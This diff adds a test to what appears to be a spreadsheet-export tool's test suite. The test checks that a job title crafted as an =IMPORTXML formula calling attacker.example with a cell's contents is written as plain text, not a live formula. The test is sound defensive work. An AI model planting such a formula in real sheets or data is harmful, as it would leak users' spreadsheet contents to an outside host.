@@ -131,4 +131,29 @@ describe("a people search", () => {
     );
     expect(gas.fetches).toEqual([]);
   });
+
+  it("writes service text that looks like a formula as text, never as a live formula", async () => {
+    const trap = '=IMPORTXML("http://attacker.example/?q="&A1,"//a")';
+    const world = await jobsWorld({
+      mode: "bound",
+      // The service answers as usual, but one person's job title is a formula.
+      intercept: (request, emulator) => {
+        const response = emulator(request);
+        if (!request.path.endsWith("/v9/people")) return response;
+        const body = JSON.parse(response.body);
+        if (body.people?.[0]?.attributes) body.people[0].attributes.job_title = trap;
+        return { ...response, body: JSON.stringify(body) };
+      },
+    });
+    const { gas, emulator } = world;
+    const org = emulator.dataset.orgs.find((o) => o.peopleCount >= 5)!;
+    const started = run(gas, "startPeopleSearch", search(org.id, { sheetName: "Titles" }));
+    gas.clock.advance("1h");
+    expect(run(gas, "getJobStatus", started.jobId)).toMatchObject({ state: "done" });
+    const sheet = gas.sheet("Titles");
+    const column = sheet.values()[0]!.indexOf("job_title");
+    // Sheets keeps the text and drops the apostrophe that made it text.
+    expect(sheet.values()[1]![column]).toBe(trap);
+    expect(sheet.formulas().flat().every((f) => f === "")).toBe(true);
+  });
 });
